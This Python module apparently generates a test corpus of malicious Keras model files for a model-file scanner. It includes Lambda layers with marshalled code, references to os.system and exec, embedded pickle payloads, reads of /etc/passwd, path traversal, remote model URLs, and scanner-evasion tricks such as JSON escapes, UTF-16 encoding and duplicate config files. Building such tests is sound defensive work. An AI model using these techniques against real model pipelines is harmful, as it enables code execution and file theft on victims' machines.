"""Keras v3 archives and Keras H5 files that run code or reach files on load."""

from __future__ import annotations

import base64
import copy
import json

from . import hdf5
from .archives import EVIL, Member, Zip
from .core import Registry
from .gadgets import MARSHAL_311

CODE = base64.b64encode(MARSHAL_311).decode() + "\n"
DENSE = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 2, "activation": "relu"}, "registered_name": None}
EMPTY_H5 = hdf5.build(hdf5.Group(children={"layers": hdf5.Group()}))


def lambda_layer(**config: object) -> dict:
    """A Lambda layer holding marshalled code."""
    function = {"class_name": "__lambda__", "config": {"code": CODE, "defaults": None, "closure": None}}
    return {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": function, **config}, "registered_name": None}


def obj(module: str | None, name: str, config: object = None, registered: str | None = None) -> dict:
    """A serialized Keras object."""
    return {"module": module, "class_name": name, "config": {} if config is None else config, "registered_name": registered}


def sequential(*layers: dict, **extra: object) -> dict:
    """A Sequential model config."""
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [DENSE, *layers]}, "registered_name": None, **extra}


def keras(config: object, members: tuple[Member, ...] = (), weights: bytes = EMPTY_H5, raw: bytes | None = None) -> bytes:
    """A .keras archive."""
    text = json.dumps(config).encode() if raw is None else raw
    return Zip([Member(b"metadata.json", b'{"keras_version": "3.8.0", "date_saved": "2025-01-01"}'), Member(b"config.json", text),
                Member(b"model.weights.h5", weights), *members]).build()


def _v3(reg: Registry) -> None:
    def add(family: str, gadget: str, data: bytes, text: str, src: str, name: str = "model.keras", kind: str = "load") -> None:
        reg.add("keras-" + family, gadget, (name, data), "keras", src, text, kind=kind)

    doc = "Keras documentation (Lambda, safe_mode)"
    add("lambda", "plain", keras(sequential(lambda_layer())), "Lambda layer with marshalled code", doc)
    add("lambda", "output-shape", keras(sequential({"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
        "config": {"name": "l", "function": {"class_name": "function", "config": "relu", "module": "keras.activations"}, "output_shape": lambda_layer()["config"]["function"]}})), "code in output_shape", doc)
    nested = sequential(sequential(sequential(lambda_layer())))
    add("lambda-nested", "three-models", keras(nested), "Lambda in a model in a model", doc)
    for wrapper in ("TimeDistributed", "Bidirectional", "Wrapper"):
        add("lambda-nested", wrapper, keras(sequential(obj("keras.layers", wrapper, {"layer": lambda_layer()}))), f"Lambda inside {wrapper}", doc)
    escaped = json.dumps(sequential(lambda_layer())).replace('"Lambda"', '"\\u004cambda"').replace("__lambda__", "\\u005f\\u005flambda__").encode()
    add("json-escape", "Lambda", keras(None, raw=escaped), "Lambda spelled with JSON escapes", "modelscan issue 343 class")
    dup = b'{"class_name": "Sequential", "config": {}, ' + json.dumps(sequential(lambda_layer())).encode()[1:]
    add("json-duplicate", "config", keras(None, raw=dup), "keys given twice, the hostile one last", "RFC 8259 section 4")
    add("json-encoding", "utf-16", keras(None, raw=json.dumps(sequential(lambda_layer())).encode("utf-16")), "config.json in UTF-16, which json.loads accepts for bytes", "Python json documentation")
    two = Zip([Member(b"config.json", json.dumps(sequential()).encode()), Member(b"metadata.json", b"{}"), Member(b"model.weights.h5", EMPTY_H5),
               Member(b"config.json", json.dumps(sequential(lambda_layer())).encode())]).build()
    add("duplicate-config", "last", two, "config.json twice, hostile last", "CVE-2025-1550")
    add("lambda-alias", "registered", keras(sequential({**lambda_layer(), "class_name": "Functional_Lambda", "registered_name": "keras.layers>Lambda"})), "Lambda through registered_name", "modelscan issue 343 class")
    add("lambda-alias", "legacy-module", keras(sequential({**lambda_layer(), "module": "keras.src.layers.core.lambda_layer"})), "Lambda through its internal module", doc)
    fn = lambda module, name: {"module": module, "class_name": "function", "config": name, "registered_name": name}
    for module, name, src in (("os", "system", "CVE-2025-1550"), ("subprocess", "run", "CVE-2025-1550"), ("builtins", "exec", "CVE-2025-1550"), ("builtins", "eval", "CVE-2025-1550"),
                              ("pickle", "loads", "CVE-2025-1550"), ("runpy", "run_path", "CVE-2025-1550"), ("numpy", "load", "CVE-2025-8747"),
                              ("keras.utils", "get_file", "CVE-2025-8747"), ("keras.src.utils.file_utils", "get_file", "CVE-2025-8747"), ("heapq", "nsmallest", "CVE-2025-8747"),
                              ("keras.config", "enable_unsafe_deserialization", "CVE-2025-9906"), ("keras.src.saving.serialization_lib", "enable_unsafe_deserialization", "CVE-2025-9906"),
                              ("keras.models", "load_model", "CVE-2025-8747"), ("importlib", "import_module", "CVE-2025-1550"), ("tensorflow.io", "write_file", "CVE-2025-8747")):
        layer = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "config": {"name": "l", "function": fn(module, name), "arguments": {"origin": "true"}}}
        add("function", f"{module}.{name}", keras(sequential(layer)), f"function {module}.{name} called by a layer", src)
        if module in ("os", "subprocess", "builtins", "runpy", "importlib"):
            add("class-module", f"{module}.{name}", keras(sequential(obj(module, name, {"command": "true"}))), f"{module}.{name} in place of a layer class", "CVE-2025-1550")
    for place in ("loss", "optimizer", "metrics"):
        add("compile-config", place, keras(sequential(compile_config={place: fn("os", "system")})), f"os.system as {place}", "CVE-2025-1550")
    add("initializer", "kernel", keras(sequential(obj("keras.layers", "Dense", {"units": 2, "kernel_initializer": obj("os", "system", "true")}))), "an initializer from module os", "CVE-2025-1550")
    add("activation", "dense", keras(sequential(obj("keras.layers", "Dense", {"units": 2, "activation": fn("os", "system")}))), "an activation from module os", "CVE-2025-1550")
    add("torch-wrapper", "TorchModuleWrapper", keras(sequential(obj("keras.layers", "TorchModuleWrapper", {"module": base64.b64encode(EVIL).decode()}))), "TorchModuleWrapper unpickles its config", "CVE-2025-49655")
    add("torch-wrapper", "src-module", keras(sequential(obj("keras.src.utils.torch_utils", "TorchModuleWrapper", {"module": {"class_name": "__bytes__", "config": {"value": EVIL.decode("latin-1")}}}))), "the same through its internal module", "CVE-2025-49655")
    for name, target in (("StringLookup", "/etc/passwd"), ("IntegerLookup", "../../../etc/passwd"), ("TextVectorization", "http://cordon.invalid/v"), ("IndexLookup", "file:///etc/passwd")):
        add("vocabulary-path", name, keras(sequential(obj("keras.layers", name, {"vocabulary": target}))), f"{name} reads its vocabulary from {target}", "CVE-2025-12058", kind="structural")
    add("tfsm-layer", "TFSMLayer", keras(sequential(obj("keras.layers", "TFSMLayer", {"filepath": "/tmp/cordon-does-not-exist", "call_endpoint": "serve"}))), "TFSMLayer loads an outside SavedModel", "CVE-2026-1462")
    add("tfsm-layer", "url", keras(sequential(obj("keras.layers", "TFSMLayer", {"filepath": "gs://cordon-invalid/m"}))), "TFSMLayer loads a remote SavedModel", "CVE-2026-1462")
    add("preprocess-hub", "KerasLayer", keras(sequential(obj("tensorflow_hub", "KerasLayer", {"handle": "https://cordon.invalid/m"}, "KerasLayer"))), "a hub layer that downloads a SavedModel", "TensorFlow Hub documentation")
    add("custom-class", "unknown-package", keras(sequential(obj("cordon_pkg.layers", "Exec", {}, "cordon_pkg>Exec"))), "a layer from a foreign module is imported on load", "CVE-2025-1550")
    add("asset-pickle", "assets", keras(sequential(), (Member(b"assets/tokenizer.pkl", EVIL),)), "a pickle in assets/", "Keras v3 archive layout")
    add("traversal", "assets", keras(sequential(), (Member(b"assets/../../../tmp/cordon", b"x"),)), "../ in an archive member", "CVE-2025-12060 family", kind="structural")
    for gadget, path in (("absolute", "/etc/passwd"), ("dotdot", "../../secret.bin")):
        weights = hdf5.build(hdf5.Group(children={"layers": hdf5.Group(children={"w": hdf5.Dataset(2, path)})}))
        add("h5-external-storage", gadget, keras(sequential(), weights=weights), f"weights stored in {path}", "CVE-2026-1669", kind="structural")
    weights = hdf5.build(hdf5.Group(external_links={"layers": ("/etc/secret.h5", "/x")}))
    add("h5-external-link", "weights", keras(sequential(), weights=weights), "weights link to another HDF5 file", "HDF5 specification (external links); CVE-2026-1669", kind="structural")
    add("hidden-config", "subfolder", Zip([Member(b"model/config.json", json.dumps(sequential(lambda_layer())).encode()), Member(b"model/metadata.json", b"{}")]).build(), "the archive is one folder deeper", "Keras v3 archive layout", "model.zip")
    add("hidden-config", "pickle-member", Zip([Member(b"config.json", b"{}"), Member(b"metadata.json", b"{}"), Member(b"data.pkl", EVIL)]).build(), "a pickle beside config.json", "Keras v3 archive layout")
    add("config-file", "json-lambda", json.dumps(sequential(lambda_layer())).encode(), "model.to_json output with a Lambda", doc, "model.json")


def _h5(reg: Registry) -> None:
    def h5(config: object, raw: bytes | None = None, **more: object) -> bytes:
        text = json.dumps(config).encode() if raw is None else raw
        children = {"model_weights": hdf5.Group(children={"d": hdf5.Group(children={"kernel": hdf5.Dataset()})})}
        return hdf5.build(hdf5.Group({"backend": b"tensorflow", "keras_version": b"2.15.0", "model_config": text}, children, **more))

    def add(family: str, gadget: str, data: bytes, text: str, src: str, name: str = "model.h5", kind: str = "load") -> None:
        reg.add("h5-" + family, gadget, (name, data), "keras-h5", src, text, kind=kind)

    legacy = {"class_name": "Lambda", "config": {"name": "l", "function": [CODE, None, None], "function_type": "lambda", "module": "__main__", "output_shape": None, "output_shape_type": "raw"}}
    simple = lambda *layers: {"class_name": "Sequential", "config": {"name": "s", "layers": [{"class_name": "Dense", "config": {"name": "d", "units": 2}}, *layers]}}
    src = "CVE-2025-9905; CVE-2024-3660"
    add("lambda", "legacy", h5(simple(legacy)), "legacy Lambda layer", src)
    add("lambda", "hdf5-name", h5(simple(legacy)), "the same named .hdf5", src, "weights.hdf5")
    add("lambda", "v3-style", h5(simple(lambda_layer())), "Lambda in the Keras 3 form", src)
    add("lambda", "nested-model", h5(simple(simple(simple(legacy)))), "Lambda two models deep", src)
    add("lambda", "functional", h5({"class_name": "Functional", "config": {"name": "f", "layers": [{**legacy, "name": "l", "inbound_nodes": []}]}}), "Lambda in a functional model", src)
    named = copy.deepcopy(legacy)
    named["config"].update(function="system", function_type="function", module="os")
    add("lambda-function", "os.system", h5(simple(named)), "a Lambda that names module os", src)
    shape = copy.deepcopy(legacy)
    shape["config"].update(function="relu", function_type="function", output_shape=[CODE, None, None], output_shape_type="lambda")
    add("lambda-output-shape", "code", h5(simple(shape)), "code only in output_shape", src)
    escaped = json.dumps(simple(legacy)).replace('"Lambda"', '"L\\u0061mbda"').encode()
    add("json-escape", "Lambda", h5(None, escaped), "Lambda spelled with a JSON escape", "modelscan issue 343 class")
    add("wrapped", "TimeDistributed", h5(simple({"class_name": "TimeDistributed", "config": {"layer": legacy}})), "Lambda inside a wrapper", src)
    add("custom-class", "module-os", h5(simple(obj("os", "system", {"command": "true"}))), "a class from module os", "CVE-2025-1550")
    add("vocabulary-path", "StringLookup", h5(simple({"class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}})), "vocabulary file path", "CVE-2025-12058", kind="structural")
    add("external-storage", "absolute", hdf5.build(hdf5.Group({"model_config": json.dumps(simple()).encode()}, {"w": hdf5.Dataset(2, "/etc/passwd")})), "dataset bytes live in /etc/passwd", "CVE-2026-1669", kind="structural")
    add("external-link", "file", hdf5.build(hdf5.Group({"model_config": json.dumps(simple()).encode()}, external_links={"w": ("../../other.h5", "/k")})), "a link to another file", "HDF5 specification (external links)", kind="structural")
    add("user-block", "512", hdf5.build(hdf5.Group({"model_config": json.dumps(simple(legacy)).encode()}), bytes(512)), "the superblock is at offset 512", "HDF5 specification (user block)")
    add("user-block", "pickle-first", hdf5.build(hdf5.Group({"model_config": json.dumps(simple()).encode()}), EVIL.ljust(512, b"\0")), "a pickle in the user block", "HDF5 specification (user block)")
    add("masked-name", "bin", h5(simple(legacy)), "a Keras H5 under another name", src, "model.bin")


def register(reg: Registry) -> None:
    """All Keras cases."""
    _v3(reg)
    _h5(reg)
